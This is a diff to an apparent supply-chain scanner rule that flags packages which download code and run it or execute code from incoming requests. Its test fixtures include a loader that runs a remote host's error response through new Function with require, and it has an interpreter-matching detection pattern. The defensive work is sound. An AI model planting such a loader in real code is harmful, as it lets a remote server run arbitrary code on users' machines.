@@ -1,13 +1,10 @@
-import type { Flow, Rule, SinkKind } from '../lib/types.ts'
-import { findingOfFlow, sourceInWords, when } from './finding.ts'
-
-const running: ReadonlySet<SinkKind> = new Set([
-  'evaluate',
-  'command',
-  'command-stdin',
-  'load',
-  'native-load',
-])
+import type { Action, Context, Flow, Inspection, Rule } from '../lib/types.ts'
+import { guardsInWords } from './behaviour/guards.ts'
+import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
+import type { Place } from './behaviour/place.ts'
+import { findingsOf } from './behaviour/sightings.ts'
+import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
+import { destinationsInWords, severityOf, when } from './finding.ts'
 
 /** Code that is fetched from the network and run: what was inspected is not what executes. */
 export const remoteCode: Rule = {
@@ -16,9 +13,15 @@ export const remoteCode: Rule = {
     title: 'Downloads code and runs it',
     severity: 'critical',
     description:
-      'What a server answers is handed to a shell, an interpreter or eval. Whatever was read in this package, the program ' +
-      'that runs is another one, chosen by that server at that moment, perhaps for this machine only.',
-    references: ['eslint-scope 3.7.2 (2018): https.get, then eval', 'ua-parser-js 0.7.29 (2021)'],
+      'What a server answers is handed to a shell, an interpreter or eval, often in an error handler where nobody looks. ' +
+      'Whatever was read in this package, the program that runs is another one, chosen by that server at that moment, ' +
+      'perhaps for this machine only. The same holds for code that arrives in a request to a server the package opens.',
+    references: [
+      'eslint-scope 3.7.2 (2018): https.get, then eval',
+      'ua-parser-js 0.7.29 (2021)',
+      'getcookies (2018): code in a request header',
+      'Contagious Interview (2024-26): the answer of a JSON host in a catch block',
+    ],
     blindSpots: ['A download that another program runs later.'],
     examples: {
       flags: [
@@ -39,6 +42,15 @@ export const remoteCode: Rule = {
               '})\n',
           },
         },
+        {
+          title: 'a module runs what an error answer carries',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
+            'index.js':
+              "const axios = require('axios')\n" +
+              "axios.get('https://json.invalid/x').catch(error => new Function('require', error.response.data)(require))\n",
+          },
+        },
       ],
       passes: [
         {
@@ -52,21 +64,84 @@ export const remoteCode: Rule = {
               "  .then(text => fs.writeFileSync('list.json', text))\n",
           },
         },
+        {
+          title: 'a page emulator runs the scripts of the page its caller names',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
+            'index.js':
+              "const vm = require('vm')\n" +
+              'exports.load = async url => vm.runInNewContext(await (await fetch(url)).text(), {})\n',
+          },
+        },
       ],
     },
   },
-  check(inspection) {
-    return inspection.flows.filter(isRemoteCode).map(flow => {
-      const unasked = flow.phase === 'install' || flow.phase === 'import'
-      return findingOfFlow(flow, {
-        severity: unasked ? 'critical' : 'medium',
-        action: unasked ? 'ask' : 'note',
-        message: `${when(flow.phase, flow.byCall)} it runs ${sourceInWords(flow.source)} as a program (${flow.sink.api})`,
-      })
+  check(inspection, context) {
+    const sightings = inspection.flows.flatMap((flow): readonly Sighting[] => {
+      const place = isRemoteCode(flow)
+        ? placeOf([flow.source.name], inspection, context)
+        : isRequested(flow)
+          ? placeOf([], inspection, context)
+          : undefined
+      if (place === undefined) return []
+      const action = weigh(flow, place, inspection, context)
+      return action === undefined ? [] : [{ flow, place, action, severity: severityOf(action) }]
     })
+    return findingsOf(sightings, say)
   },
 }
 
-function isRemoteCode(flow: Flow): boolean {
-  return flow.source.kind === 'network' && running.has(flow.sink.kind)
+/** Starts of interpreters: what they are fed is a program. */
+const interpreter =
+  /(?:^|[/\\\s])(?:ba|da|z|k|fi)?sh(?:\.exe)?(?:\s|$)|\b(?:cmd|powershell|pwsh|node|bun|deno|python[0-9.]*|perl|ruby|php|osascript|wscript|cscript|mshta)\b/i
+
+function isRemoteCode({ source, sink }: Flow): boolean {
+  if (source.kind !== 'network') return false
+  if (sink.kind === 'evaluate') return true
+  if (sink.kind === 'command-stdin') return sink.destinations.some(command => interpreter.test(command))
+  // The whole command line is the answer; an argument among constant words is data.
+  if (sink.kind === 'command' && sink.role === 'command') return sink.destinations.every(isComputed)
+  return sink.kind === 'load' && sink.role !== 'path'
+}
+
+function isComputed(command: string): boolean {
+  const words = command.replaceAll('\u0001', ' ').trim()
+  return words === '' || interpreter.test(words.split(/\s+/)[0] ?? '')
+}
+
+/** Code that a request to this program carries. */
+function isRequested({ source, sink }: Flow): boolean {
+  if (source.kind !== 'caller' || !/^(?:req|request|ctx|socket|message)$/i.test(source.name)) return false
+  return (
+    sink.kind === 'evaluate' ||
+    (sink.kind === 'command' && sink.role === 'command' && sink.destinations.every(isComputed))
+  )
+}
+
+function weigh(flow: Flow, place: Place, _inspection: Inspection, _context: Context): Action | undefined {
+  if (flow.source.kind === 'caller')
+    return /^re?q/i.test(flow.source.name) ? (flow.certain ? 'block' : 'ask') : 'ask'
+  if (place.kind === 'local') return undefined
+  if (!flow.byCall && flow.phase !== 'run') return flow.certain ? 'block' : 'ask'
+  // An emulator or loader runs what its caller names; a host written in the code was not the caller's choice.
+  if (place.kind === 'capture') return flow.certain ? 'block' : 'ask'
+  return isStranger(place) ? 'ask' : 'note'
+}
+
+function say(group: SightingGroup): string {
+  const [{ flow, place, action }] = group
+  const { api } = flow.sink
+  if (flow.source.kind === 'caller') {
+    return (
+      `${when(flow.phase, flow.byCall)} it runs what a request carries (${api})${guardsInWords(flow.guards)}. ` +
+      'Anybody who can reach that program can run code on its machine. Do not install it.'
+    )
+  }
+  const where = place.host?.shown ?? destinationsInWords([flow.source.name])
+  const what =
+    `${when(flow.phase, flow.byCall)} it runs what ${where} answers as a program (${api}); ` +
+    `that is ${placeInWords(place)}${guardsInWords(flow.guards)}.`
+  return action === 'note'
+    ? what
+    : `${what} What was inspected here is not what would run, and it can change at any moment. Do not install it.`
 }
